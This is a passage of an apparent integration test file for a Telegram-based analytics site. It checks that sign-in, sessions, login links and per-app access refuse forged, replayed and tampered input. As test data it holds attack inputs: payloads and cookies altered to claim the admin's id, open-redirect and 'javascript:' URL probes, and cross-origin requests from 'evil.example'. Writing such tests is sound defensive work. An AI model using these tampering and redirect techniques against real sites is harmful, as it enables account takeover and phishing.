// The registration site over real HTTP, without a browser: Telegram sign-in (Login Widget, Mini App
// initData, operator login links) accepting only genuine, fresh payloads; the Analytics section API with
// the bot's rules and messages; owners, strangers and administrators; CSRF and CORS; dashboard numbers
// checked against hand-computed answers and against the raw events; CSV and NDJSON exports.
import crypto from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { runCommand } from '../../src/cli/commands.ts';
import { parseAppName, parseBotAddress, parseDomain } from '../../src/tokens/inputs.ts';
import { makeEvent, postEvents } from '../helpers/events.ts';
import type { TestService } from '../helpers/service.ts';
import { eventually, signedInitData, signWidget, SiteClient, startSiteService, widgetPayload, widgetRedirect, type Answer, type TelegramUser } from './site-harness.ts';

const ALICE: TelegramUser = { id: 1001, first_name: 'Alice', last_name: 'Liddell', username: 'alice' };
const BOB: TelegramUser = { id: 2002, first_name: 'Bob', username: 'bob' };
const ADMIN: TelegramUser = { id: 9009, first_name: 'Ada', username: 'ada_admin' };
/** where users reach the site (through a reverse proxy); the tests talk to the service directly */
const PUBLIC_URL = 'https://analytics.example.net';

let service: TestService;
let alice: SiteClient;
let bob: SiteClient;
let admin: SiteClient;

beforeAll(async () => {
  service = await startSiteService({ ADMIN_TELEGRAM_IDS: String(ADMIN.id), RATE_LIMIT_MAX: '100000', PUBLIC_URL });
  [alice, bob, admin] = await Promise.all([ALICE, BOB, ADMIN].map((user) => SiteClient.signedIn(service.url, user)));
});
afterAll(() => service?.close());

const anonymousGet = (path: string) => new SiteClient(service.url).get(path);
const errorOf = (parsed: { ok: true } | { ok: false; error: string }) => (parsed.ok ? 'accepted' : parsed.error);
const now = () => Math.floor(Date.now() / 1000);

async function appRow(appName: string) {
  return service.store.prisma.app.findUnique({ where: { appName }, include: { tokens: true } });
}

async function eventCount(appName: string): Promise<number> {
  await service.loaded();
  const [row] = await service.store.sql.query<{ n: number }>(
    'SELECT count(*)::int AS n FROM events e JOIN apps a ON a.id = e.app_id WHERE a.app_name = $1',
    [appName],
  );
  return row!.n;
}

/** creates an app through the site and returns its token */
async function create(client: SiteClient, appName: string, domain = `${appName.replace(/_/g, '-')}.example.com`): Promise<string> {
  const answer = await client.post('/api/apps', { bot: `@${appName}_bot`, domain, app_name: appName });
  expect(answer.status, answer.text).toBe(201);
  return answer.json.token;
}

describe('sign-in with the Telegram Login Widget', () => {
  it('accepts a genuine payload: a signed, httpOnly, SameSite session cookie and a redirect to next', async () => {
    const client = new SiteClient(service.url);
    const answer = await client.sendWidgetPayload(widgetPayload(ALICE), '/analytics/some_app');
    expect(answer.status).toBe(302);
    expect(answer.headers.get('location')).toBe('/analytics/some_app');
    const cookie = answer.sessionCookie!;
    expect(cookie).toBeDefined();
    expect(cookie).toMatch(/; HttpOnly/i);
    expect(cookie).toMatch(/; SameSite=Lax/i);
    expect(cookie).toMatch(/; Path=\//i);
    expect(cookie).toMatch(/; Max-Age=604800/i);
    expect(cookie).toMatch(/; Secure/i); // PUBLIC_URL is https
    const me = await client.get('/api/me');
    expect(me.status).toBe(200);
    expect(me.json).toEqual({ name: 'Alice Liddell', is_admin: false });
    expect((await admin.get('/api/me')).json).toEqual({ name: 'Ada', is_admin: true });
  });

  it('accepts a payload a few hours old (the 24 h window) and never redirects off-site', async () => {
    const client = new SiteClient(service.url);
    const answer = await client.get(widgetRedirect(widgetPayload(BOB, { authDate: now() - 23 * 3600 }), '//evil.example/steal', await client.loginState()));
    expect(answer.status).toBe(302);
    expect(answer.headers.get('location')).toBe('/analytics');
    expect(client.cookie).toBeDefined();
    for (const next of ['https://evil.example/', '/\\evil.example', 'javascript:alert(1)']) {
      const browser = new SiteClient(service.url);
      const again = await browser.get(widgetRedirect(widgetPayload(BOB), next, await browser.loginState()));
      expect(again.headers.get('location'), next).toBe('/analytics');
    }
  });

  it('refuses forged, tampered, stale and unsigned payloads with 403 and no cookie', async () => {
    const genuine = widgetPayload(ALICE);
    const forged: Record<string, Record<string, string>> = {
      'signed with another bot token': widgetPayload(ALICE, { botToken: '7000000000:AAOtherBotTokenOtherBotTokenOther' }),
      'wrong hash': { ...genuine, hash: crypto.randomBytes(32).toString('hex') },
      'tampered id (to become the admin)': { ...genuine, id: String(ADMIN.id) },
      'tampered name': { ...genuine, first_name: 'Mallory' },
      'field added after signing': { ...genuine, username: 'someone_else' },
      'older than 24 hours': widgetPayload(ALICE, { authDate: now() - 24 * 3600 - 60 }),
      'dated in the future': widgetPayload(ALICE, { authDate: now() + 3600 }),
      'missing hash': Object.fromEntries(Object.entries(genuine).filter(([key]) => key !== 'hash')),
      'empty hash': { ...genuine, hash: '' },
      'hash that is not hex': { ...genuine, hash: 'z'.repeat(64) },
      'truncated hash': { ...genuine, hash: genuine.hash!.slice(0, 32) },
      'missing auth_date': signWidget({ id: String(ALICE.id), first_name: 'Alice' }),
      'non-numeric id': signWidget({ id: 'alice', first_name: 'Alice', auth_date: String(now()) }),
    };
    for (const [what, payload] of Object.entries(forged)) {
      const client = new SiteClient(service.url);
      const answer = await client.sendWidgetPayload(payload);
      expect(answer.status, what).toBe(403);
      expect(answer.sessionCookie, what).toBeUndefined();
      expect(answer.headers.get('content-type')).toMatch(/^text\/html/);
      expect(answer.text, what).toContain('The Telegram login data is invalid or expired.');
    }
    // a second id appended to a genuine payload must not be taken for either
    const browser = new SiteClient(service.url);
    const duplicated = await browser.get(`${widgetRedirect(genuine, '/analytics', await browser.loginState())}&id=${ADMIN.id}`);
    expect(duplicated.status).toBe(400);
    expect(duplicated.json).toEqual({ message: 'The query parameter "id" must be given once, as string.' });
    expect(duplicated.sessionCookie).toBeUndefined();
  });

  it('ignores session cookies that were not signed by the service', async () => {
    const client = await SiteClient.signedIn(service.url, ALICE);
    const [value, signature] = [client.cookie!.slice(0, client.cookie!.lastIndexOf('.')), client.cookie!.slice(client.cookie!.lastIndexOf('.') + 1)];
    const data = JSON.parse(Buffer.from(value, 'base64url').toString('utf8'));
    expect(data.id).toBe(String(ALICE.id));
    const asAdmin = Buffer.from(JSON.stringify({ ...data, id: String(ADMIN.id) })).toString('base64url');
    for (const cookie of [`${asAdmin}.${signature}`, asAdmin, `${value}.${'A'.repeat(signature!.length)}`]) {
      const forged = new SiteClient(service.url);
      forged.cookie = cookie;
      expect((await forged.get('/api/me')).status).toBe(401);
      expect((await forged.get('/api/apps?all=1')).status).toBe(401);
    }
  });

  it('asks for sign-in: 401 on the API, a redirect to /login on pages; signing out clears the cookie', async () => {
    const anonymous = new SiteClient(service.url);
    expect((await anonymous.get('/api/me')).json).toEqual({ message: 'Sign in first.' });
    expect((await anonymous.get('/api/apps')).status).toBe(401);
    expect((await anonymous.post('/api/apps', { bot: '@x_bot', domain: 'x.example.com', app_name: 'anonymous_app' })).status).toBe(401);
    expect(await appRow('anonymous_app')).toBeNull();
    const page = await anonymous.get('/analytics/some_app');
    expect(page.status).toBe(302);
    expect(page.headers.get('location')).toBe('/login?next=%2Fanalytics%2Fsome_app');
    expect((await anonymous.get('/login')).status).toBe(200);

    const client = await SiteClient.signedIn(service.url, BOB);
    const out = await client.request('POST', '/logout', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(out.status).toBe(303);
    expect(out.headers.get('location')).toBe('/');
    expect(out.sessionCookie).toMatch(/^tma_session=;/);
    expect(out.sessionCookie).toMatch(/Expires=Thu, 01 Jan 1970|Max-Age=0/i);
    expect(client.cookie).toBeUndefined();
  });
});

describe('sign-in in Mini App mode (initData)', () => {
  it('accepts initData signed with the bot token and starts a session', async () => {
    const client = new SiteClient(service.url);
    const answer = await client.post('/auth/webapp', { initData: signedInitData(ALICE) });
    expect(answer.status, answer.text).toBe(200);
    expect(answer.json).toEqual({ name: 'Alice Liddell' });
    expect(answer.sessionCookie).toMatch(/; HttpOnly/i);
    expect((await client.get('/api/me')).json).toEqual({ name: 'Alice Liddell', is_admin: false });
  });

  it('refuses forged, tampered, stale and missing initData with 403 and no cookie', async () => {
    const genuine = signedInitData(BOB);
    const forged: Record<string, unknown> = {
      'signed with another bot token': signedInitData(BOB, { botToken: '7000000000:AAOtherBotTokenOtherBotTokenOther' }),
      'tampered user id (to become the admin)': genuine.replace(`%22id%22%3A${BOB.id}`, `%22id%22%3A${ADMIN.id}`),
      'hash replaced': genuine.replace(/hash=[0-9a-f]+/, `hash=${'0'.repeat(64)}`),
      'hash removed': genuine.replace(/&?hash=[0-9a-f]+/, ''),
      'older than 24 hours': signedInitData(BOB, { authDate: new Date(Date.now() - 25 * 3600_000) }),
      'empty string': '',
      'not a string': { user: BOB },
      'a Login Widget payload instead': new URLSearchParams(widgetPayload(BOB)).toString(),
    };
    expect(forged['tampered user id (to become the admin)']).not.toBe(genuine);
    for (const [what, initData] of Object.entries(forged)) {
      const client = new SiteClient(service.url);
      const answer = await client.post('/auth/webapp', { initData });
      expect(answer.status, what).toBe(403);
      expect(answer.json, what).toEqual({ message: 'The Mini App init data is invalid or expired.' });
      expect(answer.sessionCookie, what).toBeUndefined();
    }
    const noBody = await new SiteClient(service.url).request('POST', '/auth/webapp');
    expect(noBody.status).toBe(403);
    expect(noBody.sessionCookie).toBeUndefined();
  });

  it('serves the /webapp page whose script posts Telegram.WebApp.initData', async () => {
    const page = await new SiteClient(service.url).get('/webapp');
    expect(page.status).toBe(200);
    expect(page.text).toContain('<script src="/assets/webapp.js"></script>');
    const script = await new SiteClient(service.url).get('/assets/webapp.js');
    expect(script.text).toContain("fetch('/auth/webapp'");
  });

  it('keeps a Mini App session in the cookie Telegram\'s web frame can hold: SameSite=None, Secure, Partitioned', async () => {
    const answer = await new SiteClient(service.url).post('/auth/webapp', { initData: signedInitData(BOB) });
    expect(answer.status).toBe(200);
    expect(answer.sessionCookie).toMatch(/; SameSite=None/i);
    expect(answer.sessionCookie).toMatch(/; Secure/i);
    expect(answer.sessionCookie).toMatch(/; Partitioned/i);
  });

  it('signs in once per initData: a replay in another browser is refused; the same Mini App reloading stays signed in', async () => {
    const initData = signedInitData({ id: 3003, first_name: 'Carol' });
    const carol = new SiteClient(service.url);
    expect((await carol.post('/auth/webapp', { initData })).status).toBe(200);
    const reload = await carol.post('/auth/webapp', { initData });
    expect(reload.status).toBe(200);
    expect(reload.json).toEqual({ name: 'Carol' });
    expect((await carol.get('/api/me')).status).toBe(200);
    const thief = new SiteClient(service.url);
    const replay = await thief.post('/auth/webapp', { initData });
    expect(replay.status).toBe(403);
    expect(replay.json).toEqual({ message: 'This Mini App sign-in was already used. Open the dashboard from the bot again.' });
    expect(replay.sessionCookie).toBeUndefined();
    expect((await thief.get('/api/me')).status).toBe(401);
  });

  it('refuses initData posted from another site', async () => {
    const answer = await new SiteClient(service.url).post('/auth/webapp', { initData: signedInitData(BOB) }, { origin: 'https://evil.example' });
    expect(answer.status).toBe(403);
    expect(answer.sessionCookie).toBeUndefined();
  });
});

describe('sign-in payloads work once, in the browser that asked for them', () => {
  it('refuses a replayed Login Widget payload in another browser (it would sign the victim in as someone else)', async () => {
    const payload = widgetPayload({ id: 4004, first_name: 'Dave' });
    const dave = new SiteClient(service.url);
    expect((await dave.sendWidgetPayload(payload)).status).toBe(302);
    const victim = new SiteClient(service.url);
    const replay = await victim.sendWidgetPayload(payload);
    expect(replay.status).toBe(403);
    expect(replay.text).toContain('This Telegram login was already used. Sign in again.');
    expect(replay.sessionCookie).toBeUndefined();
    expect((await victim.get('/api/me')).status).toBe(401);
    // the back button in Dave's own browser lands him where he was, still signed in
    const back = await dave.sendWidgetPayload(payload);
    expect(back.status).toBe(302);
    expect((await dave.get('/api/me')).json).toEqual({ name: 'Dave', is_admin: false });
  });

  it('refuses a fresh payload sent to a browser that did not open the sign-in page (login CSRF)', async () => {
    const payload = widgetPayload({ id: 4005, first_name: 'Mallory' });
    const victim = new SiteClient(service.url);
    const withoutState = await victim.get(widgetRedirect(payload));
    expect(withoutState.status).toBe(403);
    expect(withoutState.text).toContain('This sign-in did not start on this browser&#39;s sign-in page.');
    expect(withoutState.sessionCookie).toBeUndefined();
    // the attacker's own state does not work in the victim's browser either
    const attacker = new SiteClient(service.url);
    const foreign = await victim.get(widgetRedirect(payload, '/analytics', await attacker.loginState()));
    expect(foreign.status).toBe(403);
    expect(foreign.sessionCookie).toBeUndefined();
    expect((await victim.get('/api/me')).status).toBe(401);
    // the payload was not used up by the refused attempts
    expect((await attacker.sendWidgetPayload(payload)).status).toBe(302);
  });

  it('keeps one sign-in state per browser, so two open sign-in pages both work', async () => {
    const browser = new SiteClient(service.url);
    const first = await browser.widgetAuthUrl('/analytics');
    const second = await browser.widgetAuthUrl('/catalog');
    expect(new URL(second, 'http://x').searchParams.get('state')).toBe(new URL(first, 'http://x').searchParams.get('state'));
    const answer = await browser.get(`${first}&${new URLSearchParams(widgetPayload({ id: 4006, first_name: 'Nia' })).toString()}`);
    expect(answer.status).toBe(302);
    expect(answer.headers.get('location')).toBe('/analytics');
  });
});

describe('sessions that really end', () => {
  /** a second browser holding a copy of the first one's session cookie */
  function copyOf(client: SiteClient): SiteClient {
    const copy = new SiteClient(service.url);
    copy.cookie = client.cookie;
    return copy;
  }

  it('ends the session on sign-out: a saved copy of the cookie no longer works anywhere', async () => {
    const erin = await SiteClient.signedIn(service.url, { id: 5005, first_name: 'Erin' });
    const saved = copyOf(erin);
    expect((await saved.get('/api/me')).status).toBe(200);
    const out = await erin.request('POST', '/logout', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(out.status).toBe(303);
    expect((await saved.get('/api/me')).status).toBe(401);
    expect((await saved.get('/analytics')).status).toBe(302);
    // signing in again gives a new, working session
    const again = await SiteClient.signedIn(service.url, { id: 5005, first_name: 'Erin' });
    expect((await again.get('/api/me')).status).toBe(200);
    expect((await saved.get('/api/me')).status).toBe(401);
  });

  it('signs out by a same-origin POST only: a link or another site\'s form leaves the session alive', async () => {
    const frank = await SiteClient.signedIn(service.url, { id: 5006, first_name: 'Frank' });
    const page = await frank.get('/logout');
    expect(page.status).toBe(200);
    expect(page.text).toContain('<form method="post" action="/logout">');
    const form = { 'content-type': 'application/x-www-form-urlencoded' };
    expect((await frank.request('POST', '/logout', { headers: form, origin: 'https://evil.example' })).status).toBe(403);
    expect((await frank.request('POST', '/logout', { headers: form, origin: null })).status).toBe(403);
    expect((await frank.get('/api/me')).status).toBe(200);
    expect(frank.cookie).toBeDefined();
    // the page's own fetch (JSON) works too
    expect((await frank.post('/logout', {})).status).toBe(204);
    expect((await copyOf(frank).get('/api/me')).status).toBe(401);
  });

  it('shows a sign-out form, not a link, on every page of a signed-in user', async () => {
    const grace = await SiteClient.signedIn(service.url, { id: 5007, first_name: 'Grace' });
    for (const path of ['/', '/analytics', '/login']) {
      const page = await grace.get(path);
      expect(page.text, path).toContain('<form class="signout" method="post" action="/logout">');
      expect(page.text, path).not.toContain('href="/logout"');
    }
  });

  it('lets an administrator end every session of a user from the site; nobody else', async () => {
    const heidi = { id: 5008, first_name: 'Heidi' };
    const [laptop, phone] = [await SiteClient.signedIn(service.url, heidi), new SiteClient(service.url)];
    expect((await phone.post('/auth/webapp', { initData: signedInitData(heidi) })).status).toBe(200);
    const refused = await alice.post('/api/sessions/end', { telegram_id: String(heidi.id) });
    expect(refused.status).toBe(403);
    expect((await laptop.get('/api/me')).status).toBe(200);
    expect((await admin.post('/api/sessions/end', { telegram_id: 'heidi' })).json).toEqual({ message: 'A Telegram user id is a number.', field: 'telegram_id' });
    expect((await admin.post('/api/sessions/end', { telegram_id: String(heidi.id) }, { origin: 'https://evil.example' })).status).toBe(403);
    expect((await laptop.get('/api/me')).status).toBe(200);
    const ended = await admin.post('/api/sessions/end', { telegram_id: String(heidi.id) });
    expect(ended.status).toBe(200);
    expect(ended.json).toEqual({ ended: 2 });
    expect((await laptop.get('/api/me')).status).toBe(401);
    expect((await phone.get('/api/me')).status).toBe(401);
    expect((await admin.get('/api/me')).status).toBe(200);
    const view = await admin.get('/analytics?all=1');
    expect(view.text).toContain('<form id="end-sessions"');
    expect((await alice.get('/analytics?all=1')).text).not.toContain('end-sessions');
  });

  it('lets the operator end a user\'s sessions from the CLI; every node honours it within seconds', async () => {
    const ivan = { id: 5009, first_name: 'Ivan' };
    const client = await SiteClient.signedIn(service.url, ivan);
    expect((await client.get('/api/me')).status).toBe(200);
    const result = await runCommand(service.services, ['sessions', 'end', '--telegram-id', String(ivan.id), '--json']);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual({ ended: 1 });
    await eventually(async () => ((await client.get('/api/me')).status === 401 ? true : undefined), 'the session to end', 5_000);
    const bad = await runCommand(service.services, ['sessions', 'end', '--telegram-id', 'ivan']);
    expect(bad.exitCode).toBe(2);
    expect(bad.stderr).toContain('a Telegram user id must be numeric');
  });
});

describe('operator login links (cli login-link)', () => {
  async function cliLink(telegramId: string): Promise<string> {
    const result = await runCommand(service.services, ['login-link', '--telegram-id', telegramId, '--json']);
    expect(result.exitCode, result.stderr).toBe(0);
    const url = new URL(JSON.parse(result.stdout).url);
    expect(url.origin).toBe(PUBLIC_URL);
    expect(url.pathname).toBe('/login/link');
    return url.pathname + url.search;
  }

  it('signs in once; the same link is refused the second time', async () => {
    const link = await cliLink('7007');
    const first = new SiteClient(service.url);
    const answer = await first.get(link);
    expect(answer.status).toBe(302);
    expect(answer.headers.get('location')).toBe('/analytics');
    expect((await first.get('/api/me')).json).toEqual({ name: 'Operator 7007', is_admin: false });
    const second = new SiteClient(service.url);
    const again = await second.get(link);
    expect(again.status).toBe(403);
    expect(again.text).toContain('This login link is invalid, expired or was already used.');
    expect(again.sessionCookie).toBeUndefined();
  });

  it('lets exactly one of two simultaneous uses through', async () => {
    const link = await cliLink('7008');
    const answers = await Promise.all([1, 2, 3].map(() => new SiteClient(service.url).get(link)));
    expect(answers.map((answer) => answer.status).sort()).toEqual([302, 403, 403]);
  });

  it('refuses forged, altered and expired links', async () => {
    const token = new URL(await cliLink('7009'), 'http://x').searchParams.get('token')!;
    const [body, signature] = token.split('.') as [string, string];
    const payload = JSON.parse(Buffer.from(body, 'base64url').toString('utf8'));
    expect(payload.id).toBe('7009');
    const asAdmin = Buffer.from(JSON.stringify({ ...payload, id: String(ADMIN.id) })).toString('base64url');
    vi.useFakeTimers({ toFake: ['Date'] });
    let expired: string;
    try {
      vi.setSystemTime(Date.now() - 16 * 60_000); // made 16 minutes ago: valid for 15
      expired = await cliLink('7010');
    } finally {
      vi.useRealTimers();
    }
    const refused = {
      'id changed (to the admin)': `/login/link?token=${asAdmin}.${signature}`,
      'signature of another link': `/login/link?token=${asAdmin}.${signature.split('').reverse().join('')}`,
      'no signature': `/login/link?token=${body}`,
      'garbage': '/login/link?token=not-a-token',
      'no token': '/login/link',
      expired,
    };
    for (const [what, link] of Object.entries(refused)) {
      const answer = await new SiteClient(service.url).get(link);
      expect(answer.status, what).toBe(403);
      expect(answer.sessionCookie, what).toBeUndefined();
    }
    // the genuine link was not used up by the attempts
    expect((await new SiteClient(service.url).get(`/login/link?token=${token}`)).status).toBe(302);
  });
});

describe('Analytics section: tokens with the bot\'s rules and messages', () => {
  it('refuses bad input with 400, the message of the bot and the field; a taken name with 409', async () => {
    const cases = [
      { body: { bot: 'https://example.com/shop', domain: 'ok.example.com', app_name: 'ok_app' }, field: 'bot', message: errorOf(parseBotAddress('https://example.com/shop')) },
      { body: { bot: '@not_a_b0t', domain: 'ok.example.com', app_name: 'ok_app' }, field: 'bot', message: errorOf(parseBotAddress('@not_a_b0t')) },
      { body: { domain: 'ok.example.com', app_name: 'ok_app' }, field: 'bot', message: errorOf(parseBotAddress('')) },
      { body: { bot: '@okay_app_bot', domain: '192.168.0.10', app_name: 'ok_app' }, field: 'domain', message: errorOf(parseDomain('192.168.0.10', { allowLocalhost: false })) },
      { body: { bot: '@okay_app_bot', domain: 'localhost', app_name: 'ok_app' }, field: 'domain', message: errorOf(parseDomain('localhost', { allowLocalhost: false })) },
      { body: { bot: '@okay_app_bot', domain: 'no spaces.example', app_name: 'ok_app' }, field: 'domain', message: errorOf(parseDomain('no spaces.example', { allowLocalhost: false })) },
      { body: { bot: '@okay_app_bot', domain: 'ok.example.com', app_name: 'Alice Shop' }, field: 'app_name', message: errorOf(parseAppName('Alice Shop')) },
      { body: { bot: '@okay_app_bot', domain: 'ok.example.com', app_name: 'ab' }, field: 'app_name', message: errorOf(parseAppName('ab')) },
    ];
    for (const { body, field, message } of cases) {
      expect(message).not.toBe('accepted');
      const answer = await alice.post('/api/apps', body);
      expect(answer.status, JSON.stringify(body)).toBe(400);
      expect(answer.json).toEqual({ message, field });
    }
    expect(await appRow('ok_app')).toBeNull();

    await create(bob, 'taken_name');
    const taken = await alice.post('/api/apps', { bot: '@alice_bot', domain: 'alice.example.com', app_name: 'taken_name' });
    expect(taken.status).toBe(409);
    expect(taken.json).toEqual({ message: 'The app name "taken_name" is already taken.' });
  });

  it('creates a token like the bot (normalised bot and domain), lists it with prefix and last event time', async () => {
    const created = await alice.post('/api/apps', { bot: 'https://t.me/Alice_Shop_Bot', domain: 'https://Shop.Example.com/app?x=1', app_name: 'alice_shop' });
    expect(created.status).toBe(201);
    const token: string = created.json.token;
    expect(token).toMatch(/^tma_[0-9A-Za-z]{40}$/);
    expect(created.json).toMatchObject({
      app_name: 'alice_shop',
      bot: '@Alice_Shop_Bot',
      domains: ['shop.example.com'],
      token_prefix: token.slice(0, 10),
      last_event_at: null,
      events_total: 0,
      last_rejection: null,
    });

    const listed = await alice.get('/api/apps');
    expect(listed.text).not.toContain(token);
    const item = () => listed.json.find((app: { app_name: string }) => app.app_name === 'alice_shop');
    expect(item()).toMatchObject({ token_prefix: token.slice(0, 10), last_event_at: null });

    const before = Date.now();
    const sent = await postEvents(service.url, [makeEvent('alice_shop'), makeEvent('alice_shop', { event_name: 'app-hide' })], { token, origin: 'https://shop.example.com' });
    expect(sent.status).toBe(201);
    const after = await alice.get('/api/apps');
    const app = after.json.find((entry: { app_name: string }) => entry.app_name === 'alice_shop');
    expect(app.events_total).toBe(2);
    const last = Date.parse(app.last_event_at);
    expect(last).toBeGreaterThanOrEqual(before - 1000);
    expect(last).toBeLessThanOrEqual(Date.now());
    expect((await alice.get('/api/apps/alice_shop')).json).toMatchObject({ app_name: 'alice_shop', last_event_at: app.last_event_at, events_total: 2 });
  });

  it('regenerate and revoke: the old token answers "Token is invalid." on POST /events', async () => {
    const first = await create(alice, 'rotating_app');
    const origin = 'https://rotating-app.example.com';
    expect((await postEvents(service.url, makeEvent('rotating_app'), { token: first, origin })).status).toBe(201);

    const regenerated = await alice.post('/api/apps/rotating_app/regenerate');
    expect(regenerated.status).toBe(200);
    const second: string = regenerated.json.token;
    expect(second).toMatch(/^tma_[0-9A-Za-z]{40}$/);
    expect(second).not.toBe(first);
    expect(regenerated.json.token_prefix).toBe(second.slice(0, 10));
    const old = await postEvents(service.url, makeEvent('rotating_app'), { token: first, origin });
    expect(old.status).toBe(400);
    expect(old.text).toBe('{"message":"Token is invalid."}');
    expect((await postEvents(service.url, makeEvent('rotating_app'), { token: second, origin })).status).toBe(201);

    const revoked = await alice.post('/api/apps/rotating_app/revoke');
    expect(revoked.status).toBe(200);
    expect(revoked.json).toMatchObject({ app_name: 'rotating_app', token_prefix: null });
    expect(revoked.json.token).toBeUndefined();
    const afterRevoke = await postEvents(service.url, makeEvent('rotating_app'), { token: second, origin });
    expect(afterRevoke.status).toBe(400);
    expect(afterRevoke.text).toBe('{"message":"Token is invalid."}');
    expect((await alice.get('/api/apps')).json.find((app: { app_name: string }) => app.app_name === 'rotating_app')).toMatchObject({ token_prefix: null, events_total: 2 });

    // a revoked app can get a token again
    const third = (await alice.post('/api/apps/rotating_app/regenerate')).json.token;
    expect((await postEvents(service.url, makeEvent('rotating_app'), { token: third, origin })).status).toBe(201);
    expect(await eventCount('rotating_app')).toBe(3);
  });

  it('adds and removes domains with the bot\'s rules; events follow the domains at once', async () => {
    const token = await create(alice, 'domains_app', 'first.example.com');
    const added = await alice.post('/api/apps/domains_app/domains', { add: 'https://Second.Example.com/path' });
    expect(added.status).toBe(200);
    expect(added.json.domains).toEqual(['first.example.com', 'second.example.com']);
    expect((await postEvents(service.url, makeEvent('domains_app'), { token, origin: 'https://second.example.com' })).status).toBe(201);

    const duplicate = await alice.post('/api/apps/domains_app/domains', { add: 'second.example.com' });
    expect(duplicate.status).toBe(409);
    expect(duplicate.json).toEqual({ message: 'second.example.com is already a domain of domains_app.' });
    const ip = await alice.post('/api/apps/domains_app/domains', { add: '10.1.2.3' });
    expect(ip.status).toBe(400);
    expect(ip.json).toEqual({ message: errorOf(parseDomain('10.1.2.3', { allowLocalhost: false })), field: 'domain' });
    expect((await alice.post('/api/apps/domains_app/domains', {})).status).toBe(400);

    const removed = await alice.post('/api/apps/domains_app/domains', { remove: 'first.example.com' });
    expect(removed.status).toBe(200);
    expect(removed.json.domains).toEqual(['second.example.com']);
    const refused = await postEvents(service.url, makeEvent('domains_app'), { token, origin: 'https://first.example.com' });
    expect(refused.status).toBe(403);
    expect(refused.text).toBe('{"message":"The domain name does not match."}');

    const last = await alice.post('/api/apps/domains_app/domains', { remove: 'second.example.com' });
    expect(last.status).toBe(409);
    expect(last.json.message).toBe('second.example.com is the only domain of domains_app: add the new one before removing it.');
    const unknown = await alice.post('/api/apps/domains_app/domains', { remove: 'third.example.com' });
    expect(unknown.status).toBe(404);
    expect((await appRow('domains_app'))!.domains).toEqual(['second.example.com']);
  });

  it('deletes an app with its token and events', async () => {
    const token = await create(alice, 'doomed_app');
    expect((await postEvents(service.url, makeEvent('doomed_app'), { token, origin: 'https://doomed-app.example.com' })).status).toBe(201);
    expect(await eventCount('doomed_app')).toBe(1);
    const deleted = await alice.delete('/api/apps/doomed_app');
    expect(deleted.status).toBe(204);
    expect(deleted.text).toBe('');
    expect((await alice.get('/api/apps/doomed_app')).status).toBe(404);
    expect((await alice.get('/api/apps')).json.map((app: { app_name: string }) => app.app_name)).not.toContain('doomed_app');
    expect(await appRow('doomed_app')).toBeNull();
    const [orphans] = await service.store.sql.query<{ n: number }>(
      'SELECT count(*)::int AS n FROM events WHERE app_id NOT IN (SELECT id FROM apps)',
    );
    expect(orphans!.n).toBe(0);
    const after = await postEvents(service.url, makeEvent('doomed_app'), { token, origin: 'https://doomed-app.example.com' });
    expect(after.status).toBe(400);
    expect(after.text).toBe('{"message":"Token is invalid."}');
    expect((await alice.delete('/api/apps/doomed_app')).status).toBe(404);
  });
});

describe('who may see and change an app', () => {
  let token: string;
  const origin = 'https://private-app.example.com';

  beforeAll(async () => {
    token = await create(alice, 'private_app');
    expect((await postEvents(service.url, makeEvent('private_app', { user_id: 5550001 }), { token, origin })).status).toBe(201);
  });

  const routes: [string, string, unknown?][] = [
    ['GET', '/api/apps/private_app'],
    ['GET', '/api/apps/private_app/dashboard?days=30'],
    ['GET', '/api/apps/private_app/recent'],
    ['GET', '/api/apps/private_app/export.csv?days=30'],
    ['GET', '/api/apps/private_app/export.ndjson?days=30'],
    ['POST', '/api/apps/private_app/revoke', {}],
    ['POST', '/api/apps/private_app/regenerate', {}],
    ['POST', '/api/apps/private_app/domains', { add: 'evil.example.com' }],
    ['POST', '/api/apps/private_app/domains', { remove: 'private-app.example.com' }],
    ['DELETE', '/api/apps/private_app'],
  ];

  it('answers another user 404 "no such app" on every route, exactly as for an app that does not exist, and changes nothing', async () => {
    const appBefore = await appRow('private_app');
    for (const [method, path, body] of routes) {
      const answer = await bob.request(method, path, { body });
      expect(answer.status, `${method} ${path}`).toBe(404);
      expect(answer.json, `${method} ${path}`).toEqual({ message: 'There is no app named "private_app".' });
      const missing = await bob.request(method, path.replace('private_app', 'missing_app'), { body });
      expect(missing.status).toBe(404);
      expect(missing.json).toEqual({ message: 'There is no app named "missing_app".' });
    }
    expect(await appRow('private_app')).toEqual(appBefore);
    expect((await postEvents(service.url, makeEvent('private_app', { event_name: 'app-hide', user_id: 5550001 }), { token, origin })).status).toBe(201);
    expect((await bob.get('/api/apps')).json.map((app: { app_name: string }) => app.app_name)).not.toContain('private_app');
  });

  it('lets ?all=1 list every app for administrators only', async () => {
    const bobs = (await bob.get('/api/apps')).json.map((app: { app_name: string }) => app.app_name);
    expect(bobs).toEqual(['taken_name']);
    expect((await bob.get('/api/apps?all=1')).json.map((app: { app_name: string }) => app.app_name)).toEqual(bobs);
    expect((await admin.get('/api/apps')).json).toEqual([]); // the admin's own apps: none
    const everyone = (await admin.get('/api/apps?all=1')).json.map((app: { app_name: string }) => app.app_name);
    expect(everyone).toEqual(expect.arrayContaining(['alice_shop', 'private_app', 'taken_name']));
  });

  it('lets administrators see and change anybody\'s app, marked as admin in the audit log', async () => {
    expect((await admin.get('/api/apps/private_app')).json).toMatchObject({ app_name: 'private_app', events_total: 2 });
    const dashboard = await admin.get('/api/apps/private_app/dashboard?days=7');
    expect(dashboard.status).toBe(200);
    expect(dashboard.json.totals).toEqual({ events: 2, users: 1, sessions: 2 });
    const csv = await admin.get('/api/apps/private_app/export.csv?days=7');
    expect(csv.status).toBe(200);
    expect(csv.text.trim().split('\n')).toHaveLength(3);
    expect((await admin.get('/api/apps/private_app/recent')).json).toHaveLength(2);
    expect((await admin.post('/api/apps/private_app/domains', { add: 'admin-added.example.com' })).json.domains).toContain('admin-added.example.com');
    const regenerated = await admin.post('/api/apps/private_app/regenerate');
    expect(regenerated.status).toBe(200);
    expect((await postEvents(service.url, makeEvent('private_app'), { token, origin })).text).toBe('{"message":"Token is invalid."}');
    token = regenerated.json.token;
    const audit = await service.store.prisma.auditLog.findMany({ where: { appName: 'private_app', action: 'token.regenerate' } });
    expect(audit.map((entry) => entry.detail)).toEqual([{ admin: true }]);

    const bobsToken = await create(bob, 'bob_disposable');
